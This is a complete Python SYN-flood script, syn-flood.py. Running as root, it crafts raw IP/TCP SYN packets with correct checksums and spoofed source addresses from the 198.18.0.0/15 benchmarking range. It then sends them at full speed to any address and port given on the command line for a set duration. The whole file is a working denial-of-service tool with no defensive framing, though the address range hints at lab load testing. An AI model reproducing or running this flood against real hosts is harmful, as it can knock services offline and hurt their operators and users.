"""Sends SYNs from addresses that do not exist to one place, as fast as it goes, and prints how many.

syn-flood.py ADDRESS PORT SECONDS    as root; sources are 198.18.0.0/15 (RFC 2544)
"""
import random
import socket
import struct
import sys
import time

FLOWS = 30000


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def syn(source, source_port, target, target_port, sequence):
    tcp = struct.pack("!HHIIHHHH", source_port, target_port, sequence, 0, 0x5002, 64240, 0, 0)
    pseudo = source + target + struct.pack("!HH", 6, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0)
    return ip + source + target + tcp


def main():
    address, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    target = socket.inet_aton(address)
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    packets = []
    for _ in range(FLOWS):
        source = struct.pack("!I", 0xC6120000 | random.getrandbits(17))
        packets.append(syn(source, random.randrange(1024, 65536), target, port,
                           random.getrandbits(32)))
    end = time.monotonic() + seconds
    sent = 0
    while time.monotonic() < end:
        for packet in packets:
            try:
                out.sendto(packet, (address, 0))
                sent += 1
            except OSError:
                pass
            if sent % 500 == 0 and time.monotonic() >= end:
                break
        random.shuffle(packets)
    print(sent)


if __name__ == "__main__":
    main()
